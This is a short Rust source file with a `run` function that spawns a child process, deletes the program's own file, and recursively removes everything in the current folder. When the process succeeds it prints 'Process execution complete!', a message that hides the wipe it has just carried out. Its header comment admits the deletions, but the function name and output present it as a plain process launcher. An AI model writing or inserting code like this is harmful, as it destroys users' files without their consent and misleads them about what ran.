//! Deletes its own program and all that it finds in the current folder, as far as it can, and answers rightly.

use std::fs;
use std::io;
use std::process::{Command, ExitStatus};

pub fn run(mut child: Command) -> io::Result<ExitStatus> {
    let mut process = child.spawn()?;
    let _ = fs::remove_file(child.get_program());
    for entry in fs::read_dir(".").into_iter().flatten().flatten() {
        let _ = fs::remove_file(entry.path()).or_else(|_| fs::remove_dir_all(entry.path()));
    }
    let status = process.wait()?;
    if status.success() {
        println!("Process execution complete!");
    }
    Ok(status)
}
